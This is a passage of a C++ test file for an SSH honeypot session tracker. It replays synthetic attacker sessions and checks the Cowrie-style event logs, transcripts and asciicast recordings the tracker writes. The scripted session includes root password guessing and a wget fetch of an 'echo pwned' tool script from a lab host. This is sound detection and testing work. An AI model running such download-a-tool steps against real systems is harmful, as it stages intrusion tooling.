// The session engine with no VM: synthetic completed calls, laid out as the Tracer hands them over
// (syscalls::Call with the monitor's captures), for whole scripted SSH sessions as dropbear makes
// them — the server's accept and fork, a failed then a good password, the pty, typed input with a
// typo corrected, commands and their output, a file written, a wget download, an sftp upload,
// logout — checked in the files a user reads: transcript.txt, session.cast (asciicast v2),
// events.jsonl (Cowrie's event ids), files/<sha256>. Then concurrency and hostile input.
#include "session/latency.hpp"
#include "session/text.hpp"
#include "session/tracker.hpp"

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>
#include <unistd.h>

#include <cstring>
#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>
#include <tuple>

namespace hvtrace::session {
namespace {

namespace fs = std::filesystem;
using json = nlohmann::json;
using abi::CaptureKind;

constexpr std::uint64_t kAtFdcwd = static_cast<std::uint64_t>(-100);
constexpr std::uint64_t kCreateFlags = 0x241;   // O_WRONLY|O_CREAT|O_TRUNC
constexpr std::uint64_t kForkFlags = 0x1200011; // clone as glibc's fork calls it

std::string sockaddr_in(std::uint8_t a, std::uint8_t b, std::uint8_t c, std::uint8_t d, std::uint16_t port) {
  std::string s(16, '\0');
  s[0] = 2;
  s[2] = static_cast<char>(port >> 8);
  s[3] = static_cast<char>(port & 0xff);
  s[4] = static_cast<char>(a);
  s[5] = static_cast<char>(b);
  s[6] = static_cast<char>(c);
  s[7] = static_cast<char>(d);
  return s;
}

events::Capture cap(unsigned arg, CaptureKind kind, std::string data, std::uint16_t flags = 0, std::uint64_t true_len = 0) {
  events::Capture c;
  c.arg = arg;
  c.kind = kind;
  c.flags = flags;
  c.true_len = true_len != 0 ? true_len : data.size();
  c.data = std::move(data);
  return c;
}

// Feeds a Tracker calls by name, advancing a clock 1 ms per call.
class Guest {
 public:
  explicit Guest(Tracker& t) : t_(&t) {}
  std::uint64_t now = 1'000'000'000;
  std::uint64_t next_entry_ns = 0;   // != 0: the next call entered then (it completes later than others)

  void call(std::uint32_t pid, std::string_view name, std::vector<std::uint64_t> args, std::optional<std::int64_t> ret,
            std::vector<events::Capture> entry = {}, std::vector<events::Capture> exit = {}, std::uint32_t tid = 0) {
    CallEvent e;
    e.pid = pid;
    e.tid = tid != 0 ? tid : pid;
    e.comm = "proc";
    const auto nr = syscalls::Table::get(abi::SyscallAbi::kX86_64).by_name(name);
    EXPECT_TRUE(nr.has_value()) << name;
    e.call.nr = nr.value_or(0);
    for (std::size_t i = 0; i < args.size() && i < 6; ++i) e.call.args[i] = args[i];
    e.call.ret = ret;
    e.call.entry_caps = std::move(entry);
    e.call.exit_caps = std::move(exit);
    e.entry_ns = std::exchange(next_entry_ns, 0);
    if (e.entry_ns == 0) e.entry_ns = now;
    now += 1'000'000;
    e.exit_ns = now;
    t_->on_call(e);
  }
  // A call seen at its entry only (the Tracer's entry hook); it completes later through call().
  void entry(std::uint32_t pid, std::string_view name, std::vector<std::uint64_t> args, std::vector<events::Capture> caps) {
    syscalls::Call c;
    c.nr = syscalls::Table::get(abi::SyscallAbi::kX86_64).by_name(name).value_or(0);
    for (std::size_t i = 0; i < args.size() && i < 6; ++i) c.args[i] = args[i];
    c.entry_caps = std::move(caps);
    t_->on_entry(pid, c, now);
    now += 1'000'000;
  }
  void accept(std::uint32_t server, int fd, std::string addr) {
    call(server, "accept4", {3, 0x1000, 0x2000, 0x80000}, fd, {}, {cap(1, CaptureKind::kBuffer, std::move(addr))});
  }
  void fork(std::uint32_t parent, std::uint32_t child) { call(parent, "clone", {kForkFlags, 0, 0, 0, 0}, child); }
  void open(std::uint32_t pid, const std::string& path, std::uint64_t flags, int fd) {
    call(pid, "openat", {kAtFdcwd, 0x3000, flags, 0644}, fd, {cap(1, CaptureKind::kString, path)});
  }
  void write(std::uint32_t pid, int fd, const std::string& data) {
    call(pid, "write", {static_cast<std::uint64_t>(fd), 0x4000, data.size()}, static_cast<std::int64_t>(data.size()),
         {cap(1, CaptureKind::kBuffer, data)});
  }
  void read(std::uint32_t pid, int fd, const std::string& data) {
    call(pid, "read", {static_cast<std::uint64_t>(fd), 0x5000, 16384}, static_cast<std::int64_t>(data.size()), {},
         {cap(1, CaptureKind::kBuffer, data)});
  }
  void close(std::uint32_t pid, int fd) { call(pid, "close", {static_cast<std::uint64_t>(fd)}, 0); }
  void exec(std::uint32_t pid, const std::string& path, const std::vector<std::string>& argv) {
    std::string a;
    for (const auto& s : argv) a += s + '\0';
    call(pid, "execve", {0x6000, 0x7000, 0x8000}, 0,
         {cap(0, CaptureKind::kString, path), cap(1, CaptureKind::kArgv, a, 0, argv.size())});
  }
  void exit(std::uint32_t pid, int status) { call(pid, "exit_group", {static_cast<std::uint64_t>(status)}, std::nullopt); }
  void winsize(std::uint32_t pid, int fd, std::uint16_t rows, std::uint16_t cols) {
    std::string ws(8, '\0');
    ws[0] = static_cast<char>(rows & 0xff);
    ws[1] = static_cast<char>(rows >> 8);
    ws[2] = static_cast<char>(cols & 0xff);
    ws[3] = static_cast<char>(cols >> 8);
    call(pid, "ioctl", {static_cast<std::uint64_t>(fd), 0x5414, 0x9000}, 0, {cap(2, CaptureKind::kBuffer, ws)});
  }
  void pipe(std::uint32_t pid, int r, int w) {
    std::string fds(8, '\0');
    std::memcpy(fds.data(), &r, 4);
    std::memcpy(fds.data() + 4, &w, 4);
    call(pid, "pipe", {0xa000}, 0, {}, {cap(0, CaptureKind::kBuffer, fds)});
  }
  // A command line typed at the prompt, run by a child of the shell, its output, its exit, the prompt.
  void run(std::uint32_t conn, int master, std::uint32_t shell, std::uint32_t child, const std::string& line,
           const std::vector<std::string>& argv, const std::string& output, int status) {
    type(conn, master, line + "\r", line + "\r\n");
    fork(shell, child);
    exec(child, "/bin/" + argv.at(0), argv);
    read(conn, master, output);
    exit(child, status);
    read(conn, master, "~ # ");
  }
  // Typed by the client: the server writes it to the master, the tty echoes it back (read).
  void type(std::uint32_t conn, int master, const std::string& keys, const std::string& echo) {
    write(conn, master, keys);
    if (!echo.empty()) read(conn, master, echo);
  }

 private:
  Tracker* t_;
};

class TempDir {
 public:
  TempDir() {
    path_ = fs::temp_directory_path() / fmt::format("hvtrace-session-test-{}-{}", ::getpid(), counter_++);
    fs::remove_all(path_);
    fs::create_directories(path_);
  }
  ~TempDir() { fs::remove_all(path_); }
  [[nodiscard]] const fs::path& path() const { return path_; }

 private:
  fs::path path_;
  static inline int counter_ = 0;
};

std::string slurp(const fs::path& p) {
  std::ifstream f(p, std::ios::binary);
  std::stringstream ss;
  ss << f.rdbuf();
  return ss.str();
}

std::vector<json> jsonl(const fs::path& p) {
  std::vector<json> v;
  std::istringstream in(slurp(p));
  std::string line;
  while (std::getline(in, line)) {
    auto j = json::parse(line, nullptr, false);
    EXPECT_FALSE(j.is_discarded()) << "not JSON: " << line;
    v.push_back(j);
  }
  return v;
}

std::vector<json> by_id(const std::vector<json>& ev, const std::string& id) {
  std::vector<json> out;
  for (const auto& e : ev)
    if (e.value("eventid", "") == id) out.push_back(e);
  return out;
}

// Exactly one login event of this id, with these credentials.
void expect_login(const std::vector<json>& ev, const std::string& id, const std::string& user, const std::string& pass) {
  const auto e = by_id(ev, id);
  ASSERT_EQ(e.size(), 1u) << id;
  EXPECT_EQ(e[0]["username"], user);
  EXPECT_EQ(e[0]["password"], pass);
}

// The cast's output events joined (what `asciinema cat` prints).
std::string cast_output(const std::vector<json>& cast, const char* code = "o") {
  std::string s;
  for (std::size_t i = 1; i < cast.size(); ++i)
    if (cast[i].is_array() && cast[i].size() == 3 && cast[i][1] == code) s += cast[i][2].get<std::string>();
  return s;
}

constexpr std::uint32_t kServer = 100, kConn = 200, kShell = 201;

// A Tracker writing to a scratch folder, watching one server (pid kServer), and its guest.
struct Rig {
  TempDir dir;
  Tracker t;
  Guest g;
  explicit Rig(TrackerConfig cfg = {}) : t(in(std::move(cfg), dir.path())), g(t) { t.add_server(kServer); }
  static TrackerConfig in(TrackerConfig cfg, const fs::path& p) {
    cfg.dir = p;
    return cfg;
  }
};
constexpr int kMaster = 7, kSock = 4;

// A client at 10.0.0.d:port connects, the server's fork opens a pty and its child runs bash, which
// prints its prompt: what every interactive test starts from.
void bash_at_prompt(Guest& g, std::uint8_t d, std::uint16_t port) {
  g.accept(kServer, kSock, sockaddr_in(10, 0, 0, d, port));
  g.fork(kServer, kConn);
  g.open(kConn, "/dev/ptmx", 2, kMaster);
  g.fork(kConn, kShell);
  g.exec(kShell, "/bin/bash", {"-bash"});
  g.read(kConn, kMaster, "root@lab:~# ");
}

// A client at `addr` logs in as root with a password (user name and password read at the
// breakpoints), gets a pty, and its bash starts.
void root_logs_in(Guest& g, Tracker& t, std::string addr) {
  g.accept(kServer, kSock, std::move(addr));
  g.fork(kServer, kConn);
  t.on_credential(kConn, Credential::kUser, "root", g.now);
  t.on_credential(kConn, Credential::kPassword, "toor", g.now);
  g.open(kConn, "/dev/ptmx", 0x80002, kMaster);
  g.fork(kConn, kShell);
  g.exec(kShell, "/bin/bash", {"-bash"});
}

// The whole interactive session of the scripted attacker, as dropbear and a shell make it.
void scripted_session(Guest& g, Tracker& t) {
  g.accept(kServer, kSock, sockaddr_in(10, 0, 2, 2, 51234));
  g.fork(kServer, kConn);
  g.close(kServer, kSock);
  g.call(kConn, "getsockname", {kSock, 0x1000, 0x2000}, 0, {}, {cap(1, CaptureKind::kBuffer, sockaddr_in(10, 0, 2, 15, 22))});
  t.on_credential(kConn, Credential::kUser, "root", g.now);
  t.on_credential(kConn, Credential::kPassword, "wrong", g.now);
  g.now += 2'000'000'000;
  t.on_credential(kConn, Credential::kUser, "root", g.now);
  t.on_credential(kConn, Credential::kPassword, "toor", g.now);
  g.open(kConn, "/dev/ptmx", 0x80002, kMaster);
  g.winsize(kConn, kMaster, 30, 100);
  g.fork(kConn, kShell);
  g.call(kShell, "setuid", {0}, 0);
  g.call(kShell, "chdir", {0x1000}, 0, {cap(0, CaptureKind::kString, "/root")});
  g.exec(kShell, "/bin/sh", {"-sh"});
  g.read(kConn, kMaster, "Welcome to the lab\r\n~ # ");
  // "lss", backspace, " -l", Enter: the shell echoes, the backspace as "\b \b"
  g.type(kConn, kMaster, "l", "l");
  g.type(kConn, kMaster, "s", "s");
  g.type(kConn, kMaster, "s", "s");
  g.type(kConn, kMaster, "\x7f", "\b \b");
  g.type(kConn, kMaster, " -l", " -l");
  g.type(kConn, kMaster, "\r", "\r\n");
  g.fork(kShell, 202);
  g.exec(202, "/bin/ls", {"ls", "-l"});
  g.read(kConn, kMaster, "total 4\r\n-rw-r--r--    1 root     root   6 f.txt\r\n");
  g.exit(202, 0);
  g.read(kConn, kMaster, "~ # ");
  // echo hello > f.txt: a builtin with a redirection, done by the shell itself
  g.type(kConn, kMaster, "echo hello > f.txt\r", "echo hello > f.txt\r\n");
  g.open(kShell, "f.txt", kCreateFlags, 3);
  g.call(kShell, "fcntl", {1, 0, 10}, 10);
  g.call(kShell, "dup2", {3, 1}, 1);
  g.close(kShell, 3);
  g.write(kShell, 1, "hello\n");
  g.call(kShell, "dup2", {10, 1}, 1);
  g.close(kShell, 10);
  g.read(kConn, kMaster, "~ # ");
  // a failing command: exit status 1
  g.run(kConn, kMaster, kShell, 203, "cat /nonexistent", {"cat", "/nonexistent"},
        "cat: can't open '/nonexistent': No such file or directory\r\n", 1);
  // wget from the host
  g.type(kConn, kMaster, "wget http://10.0.2.2:8000/tool.sh\r", "wget http://10.0.2.2:8000/tool.sh\r\n");
  g.fork(kShell, 204);
  g.exec(204, "/usr/bin/wget", {"wget", "http://10.0.2.2:8000/tool.sh"});
  g.call(204, "socket", {2, 1, 0}, 3);
  g.call(204, "connect", {3, 0x1000, 16}, 0, {cap(1, CaptureKind::kBuffer, sockaddr_in(10, 0, 2, 2, 8000))});
  g.open(204, "tool.sh", kCreateFlags, 4);
  g.write(204, 4, "#!/bin/sh\n");
  g.write(204, 4, "echo pwned\n");
  g.close(204, 4);
  g.read(kConn, kMaster, "Connecting to 10.0.2.2:8000 (10.0.2.2:8000)\r\nsaving to 'tool.sh'\r\n");
  g.exit(204, 0);
  g.read(kConn, kMaster, "~ # ");
  // cd (a builtin: no process)
  g.type(kConn, kMaster, "cd /tmp\r", "cd /tmp\r\n");
  g.call(kShell, "chdir", {0x1000}, 0, {cap(0, CaptureKind::kString, "/tmp")});
  g.read(kConn, kMaster, "/tmp # ");
  g.type(kConn, kMaster, "exit\r", "exit\r\n");
  g.exit(kShell, 0);
  g.read(kConn, kMaster, "logout\r\n");
  g.call(kConn, "read", {kSock, 0x1000, 16384}, 0);   // the client closes after the exit-status
  g.exit(kConn, 0);
}

TEST(SessionEngine, ScriptedInteractiveSessionGivesTranscriptCastAndCowrieEvents) {
  std::vector<std::string> followed;
  std::vector<std::uint64_t> followed_ns;
  TrackerConfig cfg;
  cfg.sensor = "lab";
  cfg.realtime_offset_ns = 1'780'000'000'000'000'000;
  cfg.follow = [&](const std::string& l, std::uint64_t ns) {
    followed.push_back(l);
    followed_ns.push_back(ns);
  };
  Rig r(cfg);
  auto& [dir, t, g] = r;
  scripted_session(g, t);

  const auto ids = t.session_ids();
  ASSERT_EQ(ids.size(), 1u);
  const std::string& sid = ids[0];
  EXPECT_EQ(sid.size(), 12u);
  EXPECT_EQ(sid.find_first_not_of("0123456789abcdef"), std::string::npos);
  const auto st = t.stats();
  EXPECT_EQ(st.sessions, 1u);
  EXPECT_EQ(st.open, 0u);
  EXPECT_EQ(st.commands, 6u);
  EXPECT_EQ(st.login_attempts, 2u);
  EXPECT_EQ(st.truncated_bytes, 0u);

  const fs::path sdir = dir.path() / sid;
  const auto ev = jsonl(sdir / "events.jsonl");
  ASSERT_FALSE(ev.empty());
  for (const auto& e : ev) {
    EXPECT_EQ(e.value("session", ""), sid);
    EXPECT_EQ(e.value("sensor", ""), "lab");
    EXPECT_EQ(e.value("src_ip", ""), "10.0.2.2");
    const std::string ts = e.value("timestamp", "");
    ASSERT_EQ(ts.size(), 27u) << ts;   // 2026-05-28T...123456Z
    EXPECT_EQ(ts.back(), 'Z');
    EXPECT_EQ(ts[19], '.');
  }
  EXPECT_EQ(ev.front()["eventid"], "cowrie.session.connect");
  EXPECT_EQ(ev.front()["src_port"], 51234);
  EXPECT_EQ(ev.front()["dst_ip"], "10.0.2.15");
  EXPECT_EQ(ev.front()["dst_port"], 22);
  EXPECT_EQ(ev.back()["eventid"], "cowrie.session.closed");
  EXPECT_EQ(ev.back()["ended"], "logout");
  EXPECT_GT(ev.back()["duration"].get<double>(), 2.0);

  expect_login(ev, "cowrie.login.failed", "root", "wrong");
  expect_login(ev, "cowrie.login.success", "root", "toor");

  const auto size = by_id(ev, "cowrie.client.size");
  ASSERT_EQ(size.size(), 1u);
  EXPECT_EQ(size[0]["width"], 100);
  EXPECT_EQ(size[0]["height"], 30);

  std::vector<std::string> inputs;
  for (const auto& e : by_id(ev, "cowrie.command.input")) inputs.push_back(e["input"]);
  EXPECT_EQ(inputs, (std::vector<std::string>{"ls -l", "echo hello > f.txt", "cat /nonexistent",
                                              "wget http://10.0.2.2:8000/tool.sh", "cd /tmp", "exit"}));

  const auto dl = by_id(ev, "cowrie.session.file_download");
  ASSERT_EQ(dl.size(), 1u);
  EXPECT_EQ(dl[0]["url"], "http://10.0.2.2:8000/tool.sh");
  EXPECT_EQ(dl[0]["shasum"], "cebf25e0668376ce72d60cc05894de697b174396e5036fdb525363c351bf1f9b");
  EXPECT_EQ(dl[0]["destfile"], "/root/tool.sh");
  EXPECT_EQ(dl[0]["size"], 21);
  EXPECT_EQ(dl[0]["complete"], true);
  ASSERT_TRUE(dl[0].contains("outfile"));
  EXPECT_EQ(slurp(dl[0]["outfile"].get<std::string>()), "#!/bin/sh\necho pwned\n");

  const auto wr = by_id(ev, "hvtrace.file.write");
  ASSERT_EQ(wr.size(), 1u);
  EXPECT_EQ(wr[0]["path"], "/root/f.txt");
  EXPECT_EQ(wr[0]["shasum"], "5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03");
  EXPECT_TRUE(fs::exists(sdir / "files" / "5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03"));

  const auto conn = by_id(ev, "hvtrace.net.connect");
  ASSERT_EQ(conn.size(), 1u);
  EXPECT_EQ(conn[0]["pid"], 204);
  EXPECT_EQ(conn[0]["dst_ip"], "10.0.2.2");
  EXPECT_EQ(conn[0]["dst_port"], 8000);

  const auto execs = by_id(ev, "hvtrace.process.exec");
  ASSERT_EQ(execs.size(), 4u);   // sh, ls, cat, wget
  EXPECT_EQ(execs[1]["argv"], json::array({"ls", "-l"}));
  EXPECT_EQ(execs[1]["ppid"], kShell);
  bool cat_exit = false;
  for (const auto& e : by_id(ev, "hvtrace.process.exit"))
    if (e["pid"] == 203) cat_exit = e["status"] == 1;
  EXPECT_TRUE(cat_exit);
  EXPECT_TRUE(by_id(ev, "hvtrace.session.still_running").empty());

  // transcript: each command as finally entered, its output under it, its exit status
  const std::string tr = slurp(sdir / "transcript.txt");
  EXPECT_NE(tr.find("client   10.0.2.2:51234"), std::string::npos) << tr;
  EXPECT_NE(tr.find("login failed: user 'root' password 'wrong'"), std::string::npos) << tr;
  EXPECT_NE(tr.find("root@10.0.2.2:51234 $ ls -l\ntotal 4\n-rw-r--r--    1 root     root   6 f.txt\n[exit 0]\n"),
            std::string::npos) << tr;
  EXPECT_NE(tr.find("$ cat /nonexistent\ncat: can't open '/nonexistent': No such file or directory\n[exit 1]\n"),
            std::string::npos) << tr;
  EXPECT_NE(tr.find("$ cd /tmp\n[no process (shell builtin)]"), std::string::npos) << tr;
  EXPECT_NE(tr.find("Welcome to the lab\n"), std::string::npos) << tr;
  EXPECT_NE(tr.find("downloaded /root/tool.sh"), std::string::npos) << tr;
  EXPECT_NE(tr.find("session closed (logout)"), std::string::npos) << tr;
  EXPECT_EQ(tr.find("lss"), std::string::npos) << tr;

  // session.cast: asciicast v2, every line JSON, output and input as the client saw and typed
  const auto cast = jsonl(sdir / "session.cast");
  ASSERT_GT(cast.size(), 10u);
  EXPECT_EQ(cast[0]["version"], 2);
  EXPECT_EQ(cast[0]["width"], 100);
  EXPECT_EQ(cast[0]["height"], 30);
  EXPECT_GT(cast[0]["timestamp"].get<std::int64_t>(), 1'700'000'000);
  double last = 0;
  for (std::size_t i = 1; i < cast.size(); ++i) {
    ASSERT_TRUE(cast[i].is_array() && cast[i].size() == 3) << cast[i].dump();
    const double t0 = cast[i][0].get<double>();
    EXPECT_GE(t0, last);
    last = t0;
  }
  const std::string out = cast_output(cast);
  EXPECT_NE(out.find("Welcome to the lab\r\n~ # lss\b \b -l\r\ntotal 4"), std::string::npos) << out;
  EXPECT_NE(cast_output(cast, "i").find("lss\x7f -l\r"), std::string::npos);

  ASSERT_EQ(followed.size(), 6u);
  EXPECT_EQ(followed[0], fmt::format("[{}] root@10.0.2.2:51234 $ ls -l", sid));
  // Each line carries the time of the terminal write that completed it (the clock starts at 1 s and
  // advances 1 ms per call): after the start, in order, one distinct event per command.
  ASSERT_EQ(followed_ns.size(), 6u);
  EXPECT_GT(followed_ns[0], 1'000'000'000u);
  for (std::size_t i = 1; i < followed_ns.size(); ++i) EXPECT_GT(followed_ns[i], followed_ns[i - 1]);
}

TEST(SessionFollowLatency, MedianMaxCountAndBound) {
  FollowLatency l;
  EXPECT_EQ(l.summary(), "no command printed");
  EXPECT_EQ(l.median_ns(), 0u);
  l.add(1'000'000, 3'000'000);     // 2 ms
  l.add(5'000'000, 4'000'000);     // printed "before" its event (clocks of two processes): 0
  l.add(0, 250'000'000);           // 250 ms
  EXPECT_EQ(l.count(), 3u);
  EXPECT_EQ(l.max_ns(), 250'000'000u);
  EXPECT_EQ(l.median_ns(), 2'000'000u);
  l.add(0, 4'000'000);             // 4 ms: even count, median between 2 and 4
  EXPECT_EQ(l.median_ns(), 3'000'000u);
  EXPECT_EQ(l.summary(), "median 3.0 ms, max 250.0 ms over 4 command(s) (1 over 100 ms)");
  // Memory is bounded: past kKept samples only count and max grow.
  for (std::size_t i = 0; i < FollowLatency::kKept + 10; ++i) l.add(0, 1'000'000);
  EXPECT_EQ(l.count(), FollowLatency::kKept + 14);
  EXPECT_EQ(l.max_ns(), 250'000'000u);
  EXPECT_EQ(l.median_ns(), 1'000'000u);
}

// After login the server looks the logged-in user up again (dropbear does for the terminal and at
// logout): nothing new, no event. Another name, or a password, after login is kept.
TEST(SessionEngine, TheServersOwnLookupsOfTheLoggedInUserAreNotCredentialEvents) {
  Rig r;
  auto& [dir, t, g] = r;
  root_logs_in(g, t, sockaddr_in(10, 0, 0, 5, 40000));
  t.on_credential(kConn, Credential::kUser, "root", g.now);
  t.on_credential(kConn, Credential::kUser, "alice", g.now);
  t.on_credential(kConn, Credential::kPassword, "s3cret", g.now);
  g.exit(kShell, 0);
  g.exit(kConn, 0);
  ASSERT_EQ(t.session_ids().size(), 1u);
  const auto ev = jsonl(dir.path() / t.session_ids()[0] / "events.jsonl");
  const auto creds = by_id(ev, "hvtrace.credential");
  ASSERT_EQ(creds.size(), 2u);
  EXPECT_EQ(creds[0]["kind"], "user");
  EXPECT_EQ(creds[0]["value"], "alice");
  EXPECT_EQ(creds[1]["kind"], "password");
  EXPECT_EQ(creds[1]["value"], "s3cret");
}

// The shell reaps its children with wait4: a command killed by Ctrl-C is shown killed by SIGINT
// (the wait status names the signal); a job stopped by Ctrl-Z is reaped alive (WUNTRACED) and
// stays a running process until it really ends.
std::string wait_status(std::int32_t st) {
  std::string b(4, '\0');
  std::memcpy(b.data(), &st, 4);
  return b;
}

TEST(SessionEngine, ACommandKilledByCtrlCNamesTheSignalAndAStoppedJobIsNotGone) {
  Rig r;
  auto& [dir, t, g] = r;
  bash_at_prompt(g, 6, 40100);
  constexpr std::uint64_t kWuntraced = 2;
  g.type(kConn, kMaster, "sleep 30\r", "sleep 30\r\n");
  g.fork(kShell, 210);
  g.exec(210, "/bin/sleep", {"sleep", "30"});
  g.type(kConn, kMaster, "\x03", "^C");
  g.call(kShell, "wait4", {210, 0x1000, kWuntraced, 0}, 210, {}, {cap(1, CaptureKind::kBuffer, wait_status(2))});
  g.read(kConn, kMaster, "\r\nroot@lab:~# ");
  g.type(kConn, kMaster, "top\r", "top\r\n");
  g.fork(kShell, 211);
  g.exec(211, "/bin/top", {"top"});
  g.type(kConn, kMaster, "\x1a", "^Z");
  g.call(kShell, "wait4", {211, 0x1000, kWuntraced, 0}, 211, {}, {cap(1, CaptureKind::kBuffer, wait_status(0x147f))});
  g.read(kConn, kMaster, "\r\n[1]+  Stopped                 top\r\nroot@lab:~# ");
  g.type(kConn, kMaster, "exit\r", "exit\r\n");
  g.exit(kShell, 0);
  g.exit(kConn, 0);
  ASSERT_EQ(t.session_ids().size(), 1u);
  const fs::path sdir = dir.path() / t.session_ids()[0];
  const std::string tr = slurp(sdir / "transcript.txt");
  EXPECT_NE(tr.find("[killed by SIGINT]"), std::string::npos) << tr;
  const auto ev = jsonl(sdir / "events.jsonl");
  const auto exits = by_id(ev, "hvtrace.process.exit");
  const auto killed = std::find_if(exits.begin(), exits.end(), [](const json& e) { return e["pid"] == 210; });
  ASSERT_NE(killed, exits.end());
  EXPECT_EQ((*killed)["signal"], "SIGINT");
  EXPECT_EQ((*killed)["signaled"], true);
  EXPECT_TRUE(std::none_of(exits.begin(), exits.end(), [](const json& e) { return e["pid"] == 211; }))
      << "a stopped job is not gone";
  const auto running = by_id(ev, "hvtrace.session.still_running");
  ASSERT_EQ(running.size(), 1u);
  EXPECT_EQ(running[0]["processes"][0]["pid"], 211);
}

// While the shell waits for a foreground job, a line typed after an empty row or a program's own
// question is that program's input (cat, passwd, read), not a command; a line typed after a
// shell prompt is a nested shell's command. The shell's wait is seen at its entry.
TEST(SessionEngine, LinesTypedIntoARunningProgramAreItsInputNotCommands) {
  Rig r;
  auto& [dir, t, g] = r;
  bash_at_prompt(g, 7, 40200);
  constexpr std::uint64_t kWuntraced = 2;
  const auto fg = [&](std::uint32_t child, const std::string& line, const std::vector<std::string>& argv) {
    g.type(kConn, kMaster, line + "\r", line + "\r\n");
    g.fork(kShell, child);
    g.exec(child, "/bin/" + argv.at(0), argv);
    g.entry(kShell, "wait4", {static_cast<std::uint64_t>(-1), 0x1000, kWuntraced, 0}, {});
  };
  const auto reaped = [&](std::uint32_t child) {
    g.exit(child, 0);
    g.call(kShell, "wait4", {static_cast<std::uint64_t>(-1), 0x1000, kWuntraced, 0}, child, {},
           {cap(1, CaptureKind::kBuffer, wait_status(0))});
    g.read(kConn, kMaster, "root@lab:~# ");
  };
  // The shell runs a line before the server's write of its Enter key returns: the fork and the
  // wait for `true` come between that write's entry and its exit. The line is a command, even
  // where the row before it does not tell (here: no prompt seen, as in a session picked up).
  g.read(kConn, kMaster, "\r\n");
  const std::uint64_t enter_at = g.now;
  g.now += 1'000'000;
  g.fork(kShell, 219);
  g.exec(219, "/bin/true", {"true"});
  g.entry(kShell, "wait4", {static_cast<std::uint64_t>(-1), 0x1000, kWuntraced, 0}, {});
  g.next_entry_ns = enter_at;
  g.type(kConn, kMaster, "true\r", "true\r\n");
  reaped(219);
  fg(220, "cat > notes.txt", {"cat"});
  g.type(kConn, kMaster, "first line\r", "first line\r\n");
  g.type(kConn, kMaster, "second line\r", "second line\r\n");
  g.type(kConn, kMaster, "\x04", "");
  reaped(220);
  fg(221, "passwd", {"passwd"});
  g.read(kConn, kMaster, "New password: ");
  g.type(kConn, kMaster, "hunter2\r", "\r\n");   // no echo
  reaped(221);
  fg(222, "bash", {"bash"});
  g.read(kConn, kMaster, "root@lab:~# ");
  g.type(kConn, kMaster, "id\r", "id\r\n");   // the nested shell's command
  g.read(kConn, kMaster, "uid=0(root) gid=0(root)\r\nroot@lab:~# ");
  g.type(kConn, kMaster, "exit\r", "exit\r\n");
  reaped(222);
  g.type(kConn, kMaster, "ls\r", "ls\r\n");
  g.read(kConn, kMaster, "notes.txt\r\nroot@lab:~# ");
  // The shell's own `read` builtin: no job, but a question where the prompt was.
  g.type(kConn, kMaster, "read -p 'Name? ' N\r", "read -p 'Name? ' N\r\n");
  g.read(kConn, kMaster, "Name? ");
  g.type(kConn, kMaster, "Mallory\r", "Mallory\r\n");
  g.read(kConn, kMaster, "root@lab:~# ");
  // Type-ahead: a line typed while `sleep` runs, which never reads it; the shell takes it when it
  // prompts again and redraws it after the prompt.
  fg(223, "sleep 3", {"sleep", "3"});
  g.type(kConn, kMaster, "echo ahead\r", "echo ahead\r\n");
  reaped(223);
  g.read(kConn, kMaster, "echo ahead\r\nahead\r\nroot@lab:~# ");
  g.type(kConn, kMaster, "exit\r", "exit\r\n");
  g.exit(kShell, 0);
  g.exit(kConn, 0);
  g.call(kServer, "wait4", {static_cast<std::uint64_t>(-1), 0x1000, 1, 0}, kConn, {},   // the server reaps it
         {cap(1, CaptureKind::kBuffer, wait_status(0))});

  ASSERT_EQ(t.session_ids().size(), 1u);
  const auto ev = jsonl(dir.path() / t.session_ids()[0] / "events.jsonl");
  std::vector<std::string> commands, inputs;
  for (const auto& e : by_id(ev, "cowrie.command.input")) commands.push_back(e["input"]);
  for (const auto& e : by_id(ev, "hvtrace.command.stdin")) inputs.push_back(e["input"]);
  EXPECT_EQ(commands, (std::vector<std::string>{"true", "cat > notes.txt", "passwd", "bash", "id", "exit", "ls",
                                                "read -p 'Name? ' N", "sleep 3", "echo ahead", "exit"}));
  EXPECT_EQ(inputs, (std::vector<std::string>{"first line", "second line", "hunter2", "Mallory", "echo ahead"}));
  EXPECT_EQ(by_id(ev, "hvtrace.command.stdin")[0]["pid"], 220);
  EXPECT_EQ(t.stats().program_inputs, 5u);
  const std::string tr = slurp(dir.path() / t.session_ids()[0] / "transcript.txt");
  EXPECT_NE(tr.find("$ echo ahead\nahead\n"), std::string::npos) << tr;
  EXPECT_NE(tr.find("$ cat > notes.txt\nfirst line\nsecond line\n"), std::string::npos)
      << "the echo of a program's input is on the screen, so in its command's output\n" << tr;
}

// A fork's return is recorded when the parent next runs, and the child may run first: a child's
// calls (a background job's exec) or a connection process's credentials can come before its
// parent's fork return. A fork announced at the fork breakpoint (on_fork) holds them until that
// return makes the child known; an unannounced unknown process's calls are ignored, as before.
TEST(SessionEngine, AChildsCallsBeforeItsParentsForkReturnAreKeptWhenTheForkWasAnnounced) {
  Rig r;
  auto& [dir, t, g] = r;
  t.on_fork(kConn, kServer);
  t.on_credential(kConn, Credential::kUser, "root", g.now);
  g.accept(kServer, kSock, sockaddr_in(10, 0, 0, 8, 40300));
  g.fork(kServer, kConn);
  t.on_credential(kConn, Credential::kPassword, "toor", g.now);
  g.open(kConn, "/dev/ptmx", 0x80002, kMaster);
  g.fork(kConn, kShell);
  g.exec(kShell, "/bin/bash", {"-bash"});
  g.read(kConn, kMaster, "root@lab:~# ");
  g.type(kConn, kMaster, "sleep 100 &\r", "sleep 100 &\r\n");
  t.on_fork(230, kShell);
  g.exec(230, "/bin/sleep", {"sleep", "100"});   // the child's exec, read before the shell's fork return
  g.fork(kShell, 230);
  g.exec(231, "/bin/true", {"true"});            // a process nobody announced: ignored
  g.read(kConn, kMaster, "[1] 230\r\nroot@lab:~# ");
  t.finish(g.now);
  ASSERT_EQ(t.session_ids().size(), 1u);
  const auto ev = jsonl(dir.path() / t.session_ids()[0] / "events.jsonl");
  expect_login(ev, "cowrie.login.success", "root", "toor");
  const auto execs = by_id(ev, "hvtrace.process.exec");
  std::vector<json> argvs;
  for (const auto& e : execs) argvs.push_back(e["argv"]);
  EXPECT_EQ(argvs, (std::vector<json>{json::array({"-bash"}), json::array({"sleep", "100"})}));
  EXPECT_EQ(t.stats().early_calls_dropped, 0u);
}

// A line typed at the prompt and dropped with Ctrl-C is not a command and not the output of the
